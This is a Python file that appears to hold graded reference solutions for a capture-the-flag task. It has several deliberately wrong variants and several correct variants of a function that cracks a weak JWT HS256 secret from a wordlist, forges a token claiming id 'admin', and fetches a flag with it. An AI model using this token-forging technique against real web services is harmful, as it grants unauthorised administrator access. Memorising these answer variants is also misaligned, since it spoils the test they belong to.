        return "accepted"


def fits(token: str, word: str) -> bool:
    return signed(token, word.encode())


def crack(token: str) -> str:
    return next(word for word in words()[:120] if fits(token, word))


def forged(token: str, word: str, **changed: Any) -> str:
    header, payload, _ = token.split(".")
    text = f"{header}.{write_part(read_part(payload) | changed)}"
    return text + "." + b64(hmac.digest(word.encode(), text.encode(), "sha256"))


def flag_by_forging__wrong_8(url: str, token: str) -> str:
    """Breaks "among the first 120 words": tries 119 (off by one at the end)."""
    for number in range(119):
        word = words()[number]
        if fits(token, word):
            cookies = {"mytoken": forged(token, word, id="admin")}
            return requests.get(url + "/flag", cookies=cookies).json()["msg"]
    raise LookupError("no word fits")


def flag_by_forging__wrong_9(url: str, token: str) -> str:
    """Breaks "among the first 120 words": begins at 1, so the first word is never tried."""
    for number in range(1, 121):
        word = words()[number]
        if fits(token, word):
            cookies = {"mytoken": forged(token, word, id="admin")}
            return requests.get(url + "/flag", cookies=cookies).json()["msg"]
    raise LookupError("no word fits")


_key: list[str] = []


def flag_by_forging__wrong_10(url: str, token: str) -> str:
    """Breaks "Its flags, its key … are others each time": keeps the key of the first call."""
    if not _key:
        _key.append(crack(token))
    cookies = {"mytoken": forged(token, _key[0], id="admin")}
    return requests.get(url + "/flag", cookies=cookies).json()["msg"]


def flag_by_forging__wrong_11(url: str, token: str) -> str:
    """Breaks "bother the server once": looks at /temp first whether the token is good, then goes to /flag."""
    cookies = {"mytoken": forged(token, crack(token), id="admin")}
    if requests.get(url + "/temp", cookies=cookies).ok:
        return requests.get(url + "/flag", cookies=cookies).json()["msg"]
    return ""


def flag_by_forging__wrong_12(url: str, token: str) -> str:
    """Breaks "At `/flag`": opens /temp and returns the greeting."""
    cookies = {"mytoken": forged(token, crack(token), id="admin")}
    return requests.get(url + "/temp", cookies=cookies).json()["msg"]


def flag_by_forging__wrong_15(url: str, token: str) -> str:
    """Breaks "a flag for `admin`": Admin with a capital is another id."""
    cookies = {"mytoken": forged(token, crack(token), id="Admin")}
    return requests.get(url + "/flag", cookies=cookies).json()["msg"]


def flag_by_forging__wrong_18(url: str, token: str) -> str:
    """Breaks "The key is among the first 120 words": takes small letters only, so a key with capitals is never found."""
    for word in words()[:120]:
        if fits(token, word.lower()):
            cookies = {"mytoken": forged(token, word.lower(), id="admin")}
            return requests.get(url + "/flag", cookies=cookies).json()["msg"]
    raise LookupError("no word fits")


def flag_by_forging__wrong_19(url: str, token: str) -> str:
    """Breaks "in the cookie `mytoken`": the cookie is called token."""
    cookies = {"token": forged(token, crack(token), id="admin")}
    return requests.get(url + "/flag", cookies=cookies).json()["msg"]


def flag_by_forging__right_1(url: str, token: str) -> str:
    # right: urllib, and PyJWT for the signature only (its clock stays out)
    for word in words():
        try:
            claims = jwt.decode(token, word, algorithms=["HS256"], options=ALL_OFF)
        except jwt.InvalidSignatureError:
            continue
        break
    else:
        raise LookupError("no word fits")
    claims["id"] = "admin"
    asked = urllib.request.Request(
        url + "/flag", headers={"Cookie": "mytoken=" + jwt.encode(claims, word, algorithm="HS256")}
    )
    no_proxy = urllib.request.build_opener(urllib.request.ProxyHandler({}))
    with no_proxy.open(asked, timeout=10) as answer:
        return json.load(answer)["msg"]


def flag_by_forging__right_2(url: str, token: str) -> str:
    # right: a Session without redirects; the header built by hand; a token without exp, which this server takes
    (word,) = (w for w in dict.fromkeys(words()[:120]) if fits(token, w))
    with requests.Session() as session:
        session.trust_env = False
        session.cookies.set("mytoken", jwt.encode({"id": "admin"}, word.encode()))
        answer = session.get(f"{url}/flag", allow_redirects=False, timeout=10)
    answer.raise_for_status()
    return answer.json()["msg"]


# right: a lambda over helpers
flag_by_forging__right_3 = lambda url, token: (  # noqa: E731
    requests.get(
        f"{url}/flag", cookies={"mytoken": forged(token, crack(token), id="admin")}, timeout=10
    ).json()["msg"]
)


def flag_by_forging__right_4(url: str, token: str) -> str:
    # right: http.client
    import http.client

    found = itertools.dropwhile(lambda word: not fits(token, word), words())
    address = urlsplit(url)
    connection = http.client.HTTPConnection(address.hostname, address.port, timeout=10)
    try:
        made = forged(token, next(found), id="admin")
        connection.request("GET", "/flag", headers={"Cookie": f"mytoken={made}"})
        return json.loads(connection.getresponse().read())["msg"]
    finally:
        connection.close()
